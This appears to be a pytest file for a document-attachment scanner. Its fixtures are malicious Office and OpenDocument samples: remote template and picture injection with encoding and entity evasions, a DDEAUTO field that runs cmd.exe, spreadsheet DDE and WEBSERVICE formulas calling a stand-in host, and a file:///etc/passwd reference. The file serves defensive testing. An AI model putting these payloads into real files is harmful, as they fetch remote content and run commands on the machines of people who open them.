"""Office files that would load something when they are opened are refused, however the relation is written."""

from __future__ import annotations

import pytest

from qa.attachments.checks.errors import RefusedFile
from qa.attachments.checks.inspect import inspect
from qa.attachments.checks.kinds import DOCX, XLSX
from qa.tests import sample_files

PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
PLAIN = '<Relationship Id="a" Type="{kind}" Target="{target}" TargetMode="External"/>'
CARRY = '<Relationship Id="a" Type="{kind}" Target="media/a.png"/>'
OUTSIDE = "http://la.example/a"


def rels(inner: str, prefix: str = "") -> bytes:
    name = f"{prefix}:Relationships xmlns:{prefix}" if prefix else "Relationships xmlns"
    end = f"{prefix}:Relationships" if prefix else "Relationships"
    return f'<?xml version="1.0"?><{name}="{PACKAGE}">{inner}</{end}>'.encode()


def word(relations: bytes, name: str = "word___rels__document_dot_xml_dot_rels") -> bytes:
    return sample_files.office(DOCX, **{name: relations})


def fields(inner: str) -> bytes:
    return sample_files.office(DOCX, word__header1_dot_xml=f"<w:hdr {W}>{inner}</w:hdr>".encode())


def odf(inner: str) -> bytes:
    names = "xmlns:d='urn:draw' xmlns:x='http://www.w3.org/1999/xlink' xmlns:t='urn:text'"
    return sample_files.odt(f"<o:document-content xmlns:o='urn:office' {names}>{inner}</o:document-content>".encode())


IMAGE = PLAIN.format(kind=f"{OFFICE}/image", target=OUTSIDE)
TEMPLATE = PLAIN.format(kind=f"{OFFICE}/attachedTemplate", target=OUTSIDE)
WAYS = {
    "a picture": word(rels(IMAGE)),
    "a template": word(rels(TEMPLATE)),
    "another prefix": word(rels(TEMPLATE.replace("<Relationship", "<r:Relationship"), "r")),
    "character references": word(rels(TEMPLATE.replace("External", "Ext&#101;rnal").replace("attachedTemplate", "attached&#x54;emplate"))),
    "UTF-16": word(rels(TEMPLATE).decode().replace('?xml version="1.0"', '?xml version="1.0" encoding="UTF-16"').encode("utf-16")),
    "a greater-than sign in a value before": word(rels(TEMPLATE.replace('Id="a"', 'Id="a>b"'))),
    "capitals in the name of the part": word(rels(TEMPLATE), "word___RELS__document_dot_xml_dot_RELS"),
    "no mode, but a whole address": word(rels(TEMPLATE.replace(' TargetMode="External"', ""))),
    "a share of a Windows server": word(rels(PLAIN.format(kind=f"{OFFICE}/image", target=r"\\la.example\a.png"))),
    "entities of its own": word(
        rels(TEMPLATE.replace("External", "&e;")).replace(b"<Rel", b'<!DOCTYPE a [<!ENTITY e "External">]><Rel', 1)
    ),
    "a field with a picture": fields("<w:r><w:instrText>INCLUDEPICTURE http://la.example/a.png \\d</w:instrText></w:r>"),
    "a field cut into runs": fields(
        "<w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://la.example</w:instrText></w:r>"
    ),
    "a simple field": fields("<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe'/>"),
    "a part that is no XML": fields("<w:r>"),
}
ODF_WAYS = {
    "a picture": odf(f"<d:image x:href='{OUTSIDE}'/>"),
    "a picture beside the file": odf("<d:image x:href='../a.png'/>"),
    "another prefix for the address": odf("<d:image xmlns:q='http://www.w3.org/1999/xlink' q:href='file:///etc/passwd'/>"),
    "a section from elsewhere": odf(f"<t:section-source x:href='{OUTSIDE}'/>"),
}


CARRIED = {  # what another file or a program is carried by, where no name of a part betrays it
    "another document as HTML": word(rels(CARRY.format(kind=f"{OFFICE}/aFChunk"))),
    "an object of another program": word(rels(CARRY.format(kind=f"{OFFICE}/oleObject"))),
    "a control": word(rels(CARRY.format(kind=f"{OFFICE}/control"))),
    "a program of the ribbon": word(rels(CARRY.format(kind="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"))),
    "an object of another program under the name of a picture": sample_files.office(DOCX, word__media__a_dot_png=b"\xd0\xcf\x11\xe0" * 9),
    "a document under the name of a picture": sample_files.office(DOCX, word__media__a_dot_png=sample_files.office(DOCX)),
    "an RTF text under the name of a picture": sample_files.office(DOCX, word__media__a_dot_png=b"{\\rtf1}"),
}
FORMULAS = {
    "a question to a server": "_xlfn.WEBSERVICE(&quot;http://la.example&quot;)",
    "letters as references": "_xlfn.&#87;EBSERVICE(&quot;http://la.example&quot;)",
    "a picture": "_xlfn.IMAGE(A1)",
    "a program": "cmd|'/C calc'!A0",
    "a program by its function": "DDE(&quot;cmd&quot;,&quot;/C&quot;,&quot;a&quot;)",
}


def sheet(formula: str) -> bytes:
    cells = f"<worksheet xmlns='urn:s'><sheetData><row><c><f>{formula}</f><v>1</v></c></row></sheetData></worksheet>"
    return sample_files.office(XLSX, xl__worksheets__sheet1_dot_xml=cells.encode())


@pytest.mark.parametrize("way", CARRIED)
def test_a_word_file_that_carries_another_file_is_refused(way: str):
    with pytest.raises(RefusedFile):
        inspect("don.docx", CARRIED[way])


@pytest.mark.parametrize("what", FORMULAS)
def test_a_sheet_whose_formula_asks_a_server_or_runs_something_is_refused(what: str):
    with pytest.raises(RefusedFile):
        inspect("bang.xlsx", sheet(FORMULAS[what]))


def test_a_sheet_that_asks_a_source_of_data_is_refused():
    relation = rels(CARRY.format(kind=f"{OFFICE}/connections"))
    with pytest.raises(RefusedFile):
        inspect("bang.xlsx", sample_files.office(XLSX, xl___rels__workbook_dot_xml_dot_rels=relation))


@pytest.mark.parametrize("way", WAYS)
def test_a_word_file_that_loads_something_is_refused(way: str):
    with pytest.raises(RefusedFile):
        inspect("don.docx", WAYS[way])


@pytest.mark.parametrize("way", ODF_WAYS)
def test_an_opendocument_file_that_loads_something_is_refused(way: str):
    with pytest.raises(RefusedFile):
        inspect("don.odt", ODF_WAYS[way])


def test_a_sheet_with_links_to_other_files_is_refused():
    with pytest.raises(RefusedFile):
        inspect("bang.xlsx", sample_files.office(XLSX, xl__externalLinks__externalLink1_dot_xml=b"<ddeLink/>"))


@pytest.mark.parametrize(
    "harmless",
    [
        ("don.docx", word(rels(PLAIN.format(kind=f"{OFFICE}/hyperlink", target="https://sonha.example/")))),
        ("don.docx", word(rels(f'<Relationship Id="a" Type="{OFFICE}/image" Target="../media/a.png"/>'))),
        ("don.docx", fields("<w:r><w:instrText> PAGE  \\* MERGEFORMAT </w:instrText></w:r>")),
        ("don.docx", fields('<w:r><w:instrText> HYPERLINK "https://sonha.example/link/import" </w:instrText></w:r>')),
        ("bang.xlsx", sheet("IF(A1=&quot;CALL|IMAGE(&quot;,SUM(B1:B9),0)")),
        ("don.odt", odf("<d:image x:href='Pictures/a.png'/><t:a x:href='https://sonha.example/'>a</t:a>")),
    ],
)
def test_links_to_press_and_what_lies_in_the_file_are_let_in(harmless: tuple[str, bytes]):
    assert inspect(*harmless)
